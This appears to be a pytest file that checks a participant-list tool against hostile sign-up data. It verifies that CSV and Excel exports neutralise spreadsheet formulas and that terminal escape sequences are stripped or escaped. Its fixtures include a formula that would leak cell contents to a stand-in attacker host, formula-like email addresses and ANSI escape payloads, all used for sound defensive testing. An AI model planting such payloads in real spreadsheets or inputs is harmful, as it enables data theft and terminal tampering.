"""Lists of people written for the bureau (the mail merge) and what reaches its terminal:
a hostile sign-up form must not run formulas in Excel, break the export or write escape
sequences to the terminal."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from g40cal.config import load_config
from g40cal.people.participants import Registration, insert_participant, put_registration
from g40cal.state import State
from tests.participants_support import ZAANDAM, ok, people, published_project, run

ATTACK = '=WEBSERVICE("https://attacker.example/c?"&E3&E4)'
HEADER = "Tijdstempel,Naam,E-mailadres,Organisatie\n"


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("G40CAL_STATE", raising=False)
    return published_project(tmp_path / "project")


def import_text(root: Path, tmp_path: Path, body: str, *extra: str):
    export = tmp_path / "export.csv"
    export.write_text(HEADER + body, encoding="utf-8")
    return run(root, "participants", "import", str(export), "--programme", ZAANDAM, *extra)


def hostile(root: Path, tmp_path: Path) -> None:
    body = (f'1-5-2024 10:00,"{ATTACK.replace(chr(34), chr(34) * 2)}",x@evil.example,'
            "+31 gemeente\n"
            "1-5-2024 10:01,Anna de Vries,a.devries@zaanstad.example,@Zaanstad\n")
    ok(import_text(root, tmp_path, body))


def csv_rows(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_a_formula_in_a_name_is_stored_as_text_in_the_xlsx_list(
        root: Path, tmp_path: Path) -> None:
    hostile(root, tmp_path)
    output = tmp_path / "links.xlsx"
    ok(run(root, "participants", "links", "-o", str(output)))
    sheet = load_workbook(output).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row}
    assert cells[ATTACK].data_type == "s"
    assert cells["+31 gemeente"].data_type == "s" and cells["@Zaanstad"].data_type == "s"
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)


def test_a_formula_in_a_name_is_neutralised_in_the_csv_list(root: Path, tmp_path: Path) -> None:
    hostile(root, tmp_path)
    output = tmp_path / "links.csv"
    ok(run(root, "participants", "links", "-o", str(output)))
    rows = csv_rows(output)
    names = {r[0]: r for r in rows[1:]}
    assert "'" + ATTACK in names
    assert names["'" + ATTACK][2] == "'+31 gemeente"
    assert names["Anna de Vries"][2] == "'@Zaanstad"
    # every cell is quoted, so no ; or " inside a value can start a new cell
    assert output.read_bytes().decode("utf-8-sig").splitlines()[1].startswith('"\'=WEBSERVICE')


def test_the_csv_list_opens_in_columns_in_a_dutch_excel_and_says_so(
        root: Path, tmp_path: Path) -> None:
    hostile(root, tmp_path)
    output = tmp_path / "links.csv"
    result = ok(run(root, "participants", "links", "-o", str(output)))
    assert "semicolon-separated, UTF-8 with byte order mark" in result.stdout
    header = csv_rows(output)[0]
    assert header[:3] == ["name", "email", "organisation"] and len(header) == 10


@pytest.mark.parametrize("address", ["=1+1@evil.nl", "+1@evil.nl", "-2@evil.nl",
                                     "@x@evil.nl"])
def test_an_address_that_a_spreadsheet_would_run_is_refused_at_import(
        root: Path, tmp_path: Path, address: str) -> None:
    result = import_text(root, tmp_path, f"1-5-2024 10:00,Eve,{address},Evil\n")
    assert result.exit_code == 1
    assert f"export.csv:2: error: field 'E-mailadres': {address!r} starts with" in result.stderr
    assert "reads as a formula" in result.stderr
    assert not people(root)


def test_an_address_that_a_spreadsheet_would_run_is_refused_by_add(root: Path) -> None:
    result = run(root, "participants", "add", "--name", "Eve", "--email", "=1+1@evil.nl",
                 "--programme", ZAANDAM)
    assert result.exit_code == 2 and "reads as a formula" in result.stderr


def test_control_characters_in_a_form_are_removed_at_import_and_said_so(
        root: Path, tmp_path: Path) -> None:
    body = ("1-5-2024 10:00,\"Mal\x1b[2J\x1b[31mlory\u202e\",m@evil.example,"
            "\"Org\x07\tanisatie\"\n")
    result = ok(import_text(root, tmp_path, body))
    assert "control characters or direction overrides removed" in result.stdout
    stored = people(root)["m@evil.example"]
    assert stored.name == "Mal[2J[31mlory" and stored.organisation == "Org anisatie"
    assert "\x1b" not in result.stdout + result.stderr


def test_control_characters_in_a_header_never_reach_the_terminal(
        root: Path, tmp_path: Path) -> None:
    export = tmp_path / "export.csv"
    export.write_text("Naam,E-mailadres,Vraag\x1b[2J\nAnna,a@x.example,ja\n", encoding="utf-8")
    result = ok(run(root, "participants", "import", str(export), "--programme", ZAANDAM))
    assert "\x1b" not in result.stdout and "Vraag\\x1b[2J → ignored" in result.stdout


def store_raw(root: Path, name: str, organisation: str) -> None:
    """A participant stored before names were cleaned (or written by another tool)."""
    with State(load_config(root).state_path) as state, state.transaction():
        pid = insert_participant(state, name=name, email="old@x.example",
                                 organisation=organisation,
                                 now=datetime(2024, 5, 1, tzinfo=UTC))
        put_registration(state, pid, Registration(ZAANDAM, None, 1, None, "hand"))


def test_stored_control_characters_are_shown_escaped_and_never_break_an_export(
        root: Path, tmp_path: Path) -> None:
    ok(import_text(root, tmp_path, "1-5-2024 10:00,Anna,a@x.example,A\n"))
    store_raw(root, "Old\x1b]0;pwned\x07Name", "Org\x00\u202e")
    output = tmp_path / "links.xlsx"
    ok(run(root, "participants", "links", "-o", str(output)))
    values = [c.value for row in load_workbook(output).active.iter_rows() for c in row]
    assert "Old\\x1b]0;pwned\\x07Name" in values and "Org\\x00\\u202e" in values
    ok(run(root, "participants", "links", "-o", str(tmp_path / "links.csv")))
    for command in (("list",), ("show", "old@x.example"), ("check",)):
        result = ok(run(root, "participants", *command))
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
        assert "\u202e" not in result.stdout
    assert "Old\\x1b]0;pwned\\x07Name" in ok(run(root, "participants", "list")).stdout
